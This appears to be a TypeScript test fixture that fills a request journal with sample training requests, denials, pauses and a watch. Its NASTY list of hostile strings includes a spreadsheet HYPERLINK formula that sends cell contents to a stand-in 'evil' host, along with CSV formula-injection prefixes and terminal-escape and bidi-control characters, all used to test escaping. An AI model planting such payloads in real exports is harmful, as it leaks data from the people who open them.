import type { Journal } from '../../src/archive/ports';
import { advance, confirmed, denial, NOON, newRequest, planned } from '../journal/builders';

const DAY = 24 * 3_600_000;

/** Texts that break tables, files, terminals and spreadsheets. */
export const NASTY = [
  '=HYPERLINK("http://evil/?"&A1,"click")',
  ' \t@SUM(1)',
  "'+1",
  'a "quoted", and\r\na second line',
  '\u001b[2J\u202eevil\u2028next',
  'Обучение №5 👩‍👩‍👧‍👦',
  '',
  'a;=1+1',
] as const;

/** Four requests of two people, in four states, over three days; two denials; a pause; and a watch. */
export async function fill(journal: Journal): Promise<void> {
  const training = {
    id: '11',
    projectId: '1',
    name: NASTY[0],
    status: 'CLOSED',
    lastCloseReason: null,
    created: NOON,
    url: '',
  };
  const plan = { ...newRequest('done').plan, training, projectName: 'P' };
  const asked = await planned(journal, 'done', { trainingId: '11', plan });
  let done = await advance(journal, asked, 'confirmed', { with: { reason: NASTY[3] } });
  for (const kind of ['submitting', 'accepted'] as const)
    done = await advance(journal, done, kind, { actor: 'app' });
  await advance(journal, done, 'succeeded', { actor: 'app', at: NOON + 9, with: { operationId: 'op-1' } });
  await confirmed(journal, 'open', {
    trainingId: '12',
    createdAt: NOON + DAY,
    requester: 'U2',
    channel: 'C2',
  });
  const failing = { trainingId: '13', environment: 'sandbox', createdAt: NOON + DAY };
  const outcome = { code: 'x', said: NASTY[4] };
  await advance(journal, await confirmed(journal, 'not', failing), 'not_started', {
    actor: 'U7',
    with: { outcome },
  });
  await planned(journal, 'seen', { trainingId: '11', createdAt: NOON + 2 * DAY });
  await journal.deny(denial('r1', { detail: NASTY[1], trainingId: '11', environment: 'production' }));
  const place = { team: 'T1', channel: 'C1' };
  await journal.setPause({ ...place, kind: 'paused', user: 'U3', reason: NASTY[4], at: NOON });
  await journal.setPause({ ...place, kind: 'resumed', user: 'U4', reason: '', at: NOON + 60_000 });
  await journal.watch(
    {
      ...{ ...place, id: 'w1', environment: 'production', trainingId: '11', user: 'U3', enterprise: null },
      ...{ createdAt: NOON, tries: 1, dueAt: NOON + 60_000, claimedUntil: null },
    },
    20,
  );
  await journal.deny(denial('r2', { at: NOON + DAY, user: 'U3' }));
}
